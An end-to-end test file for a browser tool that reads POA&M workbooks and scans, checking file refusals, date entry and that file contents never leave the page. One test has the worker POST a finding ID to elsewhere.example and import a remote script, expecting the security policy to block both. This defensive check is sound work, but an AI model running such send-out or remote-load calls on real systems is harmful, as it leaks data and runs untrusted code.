import { describe, expect, it } from 'vitest';
import { accessibilityFaults } from '../../support/accessibility.ts';
import { visitSite } from '../../support/browser.ts';
import { builtSite } from '../../support/built-site.ts';
import { manyItems, openSheet, openWorkbookOf } from '../../support/evidence/built-items.ts';
import { compoundFile } from '../../support/evidence/compound-builder.ts';
import { buildCsv } from '../../support/evidence/csv-builder.ts';
import { lateInSample } from '../../support/evidence/sample.ts';
import {
  counted,
  downloadedSample,
  fileEntry,
  giveFiles,
  lateHigh,
  numberEntry,
  numberOf,
  scan,
} from '../../support/evidence-journey.ts';
import { enter, press, quickly, sees } from '../../support/quickly.ts';
import { useTool } from '../../support/tool-journey.ts';
import { startWatchingProxy } from '../../support/watching-proxy.ts';

const visit = visitSite(builtSite());
/** How many items of the sample are late. */
const lateItems = String(lateInSample('late-remediation-high-dfr').used);

describe('files that are not read at once', () => {
  it('are called off or refused in words, and the others stay; ask at the file what they leave open, and are read once it is answered', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      // Called off as soon as it can be: on a quick machine, a file that goes on until a test has found the button is very large.
      await page.evaluate(() => {
        const watch = new MutationObserver(() => {
          const button = [...document.querySelectorAll('button')].find((one) =>
            /^Cancel reading large\.xlsx/.test(one.getAttribute('aria-label') ?? one.textContent ?? ''),
          );
          if (button === undefined) return;
          watch.disconnect();
          button.click();
        });
        watch.observe(document.body, { childList: true, subtree: true });
      });
      await giveFiles(page, { name: 'large.xlsx', content: openWorkbookOf(manyItems(2_000)) });
      await quickly(page, sees('Reading was canceled.', '.files'));
      expect(await page.locator('.numbers').count()).toBe(0);

      const sample = await downloadedSample(page);
      const half = Buffer.from(sample.content).subarray(0, Math.floor(sample.content.length / 2));
      const locked = Buffer.from(compoundFile(['EncryptionInfo', 'EncryptedPackage']));
      await giveFiles(
        page,
        sample,
        { name: 'locked.xlsx', content: locked },
        { name: 'half.xlsx', content: half },
        { name: 'nothing.csv', content: '' },
        { name: 'report.xls', content: '<!DOCTYPE html><html><body><table></table></body></html>' },
      );
      await page.getByRole('status').getByText('The files have been read and counted. 5 not read.').waitFor();
      const told = async () =>
        Object.fromEntries(
          await page
            .locator('.files > li')
            .evaluateAll((entries) =>
              entries.map((entry) => [
                entry.querySelector('h3')?.textContent ?? '',
                (entry.querySelector('.refused') as HTMLElement | null)?.innerText ?? '',
              ]),
            ),
        );
      const refused = await told();
      expect(refused).toMatchObject({
        'locked.xlsx': expect.stringMatching(/^Not read\. .*password/),
        'half.xlsx': expect.stringMatching(/^Not read\. The file is cut off/),
        'nothing.csv': 'Not read. nothing.csv is empty.',
        'report.xls': expect.stringContaining('report.xls is a web page (HTML).'),
      });
      expect(Object.values(refused).join()).not.toContain('unforeseen');
      await fileEntry(page, 'large.xlsx').getByRole('button', { name: 'Read it now' }).waitFor();
      await expect.poll(() => numberOf(page, lateHigh)).toBe(lateItems);
      const without = page.getByText(/^These numbers do not include/);
      expect(await without.innerText()).toBe(
        'These numbers do not include large.xlsx, locked.xlsx, half.xlsx, nothing.csv, and report.xls.',
      );
      await quickly(page, press('Remove half.xlsx'));
      await expect.poll(() => fileEntry(page, 'half.xlsx').count()).toBe(0);
      expect(await without.innerText()).not.toContain('half.xlsx');
      await quickly(page, press('Remove sample-poam.xlsx'));
      await expect.poll(() => page.locator('.numbers').count()).toBe(0);
      await expect.poll(() => page.locator('.files > li').count()).toBe(4);

      const items = manyItems(5).map((item) => ({
        ...item,
        'Original Detection Date': '03/04/2026',
        'Scheduled Completion Date': '05/06/2026',
        'Status Date': '05/06/2026',
      }));
      await giveFiles(page, { name: 'poam.csv', content: buildCsv(openSheet(items)) });
      await quickly(
        page,
        sees('Which sheet is it?'),
        press('Read it this way'),
        sees('Choose one of the answers.'),
        enter('Open items'),
        press('Read it this way'),
        sees('Which number is the month?'),
        enter('The first is the day: April 3, 2026'),
        press('Read it this way'),
        sees('5 open items in'),
        enter('Count ages as of', '2026-05-29'),
      );
      await expect.poll(() => numberOf(page, lateHigh)).toBe('2');
      await quickly(page, press('Show 5 items: all items of all files'), sees('2026-04-03', '.evidence-list tbody tr'));
    }));

  it('count as of one month where they tell no date, until each is given its own, by the keyboard alone', () =>
    useTool(visit, 'triggers', async ({ page }) => {
      const [july, august] = ['open-july.csv', 'open-august.csv'] as const;
      const content = (amount: number) => buildCsv(openSheet(manyItems(amount)), { showDate: () => '2026-05-14' });
      await giveFiles(page, { name: july, content: content(3) }, { name: august, content: content(2) });
      const merged = page.getByText(`${july} and ${august}: no date, so treated as from the month that is counted.`);
      await merged.waitFor();
      const toField = async (name: string) => {
        await page.getByRole('button', { name: `Remove ${name}` }).focus();
        await page.keyboard.press('Tab');
        await page.keyboard.press('Enter');
        await fileEntry(page, name).getByLabel('Date of this file').waitFor();
        await page.keyboard.press('Tab');
      };
      const date = async (name: string, typed: string, said: string) => {
        await toField(name);
        await page.keyboard.type(typed);
        await page.keyboard.press('Enter');
        await fileEntry(page, name).getByText(`dated ${said}, as you entered`).waitFor();
        await expect.poll(() => page.evaluate(() => document.activeElement?.textContent)).toBe(name);
      };
      await date(july, '07312026', 'July 31, 2026');
      await date(august, '08312026', 'August 31, 2026');
      const history = page.getByText('POA&M of August 31, 2026, compared to that of July 31, 2026:');
      await history.waitFor();
      expect(await page.getByLabel('Count ages as of').inputValue()).toBe('2026-08-31');
      await expect.poll(() => merged.count()).toBe(0);
      await toField(august);
      await page.keyboard.press('Backspace');
      await page.keyboard.press('Enter');
      await fileEntry(page, august).getByText('This is not a valid date.').waitFor();
      expect(await accessibilityFaults(page, '.evidence')).toEqual([]);
      for (let part = 0; part < 2; part += 1) {
        await page.keyboard.press('ArrowRight');
        await page.keyboard.press('Backspace');
      }
      await page.keyboard.press('Enter');
      await fileEntry(page, august).getByText(', without a date.').waitFor();
      await expect.poll(() => history.count()).toBe(0);
    }));
});

describe('what the files hold', () => {
  it('goes nowhere while they are read, counted, listed and used', async () => {
    const proxy = await startWatchingProxy();
    try {
      await useTool(
        visit,
        'triggers',
        async ({ page }) => {
          const sample = await downloadedSample(page);
          await page.waitForLoadState('networkidle');
          proxy.requests.length = 0;
          await giveFiles(page, { ...sample, name: 'secret-name.xlsx' }, scan);
          await counted(page);
          await numberEntry(page, lateHigh)
            .getByRole('button', { name: `Show the ${lateItems} items` })
            .click();
          await page.locator('.evidence-list table').waitFor();
          await page.getByRole('button', { name: 'Use these numbers' }).click();
          await page.getByRole('button', { name: 'Fill these in' }).click();
          await page.getByText('The numbers are filled in, and').waitFor();
        },
        proxy.options,
      );
    } finally {
      await proxy.close();
    }
    // Chromium itself asks its maker how to fill forms, of any site with fields; the site has no part in it.
    const requests = proxy.requests.filter(({ url }) => url.host !== 'content-autofill.googleapis.com');
    const addresses = requests.map(({ url }) => url.href);
    // What the two workers load to read and to count: nothing of them escaped the proxy.
    for (const part of ['evidence-worker', 'evidence-store', 'read-workbook', 'read-nessus']) {
      expect(addresses.join('\n')).toContain(`${visit.origin}/_astro/workers/${part}`);
    }
    const others = requests.filter(
      ({ method, url, bytes }) =>
        method !== 'GET' ||
        bytes() > 0 ||
        url.origin !== visit.origin ||
        // The form for paper is a page of the site, and says nothing of the files.
        !/^\/(?:_astro\/(?:workers\/)?[\w.-]+\.(?:js|css)|tools\/triggers\/paper\/)$/.test(url.pathname) ||
        url.search !== '',
    );
    expect(others.map(({ method, url }) => `${method} ${url.href}`)).toEqual([]);
    for (const secret of ['secret', 'scan.nessus', 'V-101', 'web-1', 'silent']) {
      expect(addresses.filter((address) => address.includes(secret))).toEqual([]);
    }
  });
});

describe('the workers that read and count', () => {
  it('go by the policy of the page, which forbids them to ask another site for anything', async () => {
    const { context } = await visit.profile();
    try {
      const page = await context.newPage();
      await page.goto(`${visit.origin}/tools/triggers/`);
      await giveFiles(page, scan);
      await counted(page);
      const [worker, ...others] = page.workers();
      expect(others).toEqual([]);
      // As text: what compiles the tests would change the import into one of its own.
      const refused = await worker?.evaluate<readonly string[]>(`(async () => {
        const directives = [];
        addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
        await fetch('https://elsewhere.example/', { method: 'POST', body: 'V-101' }).catch(() => {});
        await import('https://elsewhere.example/a.js').catch(() => {});
        return directives;
      })()`);
      expect(refused?.map((directive) => directive.replace('-elem', ''))).toEqual(['connect-src', 'script-src']);
    } finally {
      await context.close();
    }
  });

  it('are started by their address where a host forbids to start them from text', () =>
    useTool(visit, 'triggers', async ({ page, faults }) => {
      await page.evaluate(() => {
        URL.createObjectURL = () => `${location.origin}/nothing-there.js`;
      });
      await giveFiles(page, scan);
      await counted(page);
      await expect.poll(() => numberOf(page, 'Unique vulnerabilities')).toBe('1');
      // That nothing is at the address in its place is the only fault.
      expect(faults.splice(0).filter((fault) => !fault.includes('nothing-there.js'))).toEqual([]);
    }));
});
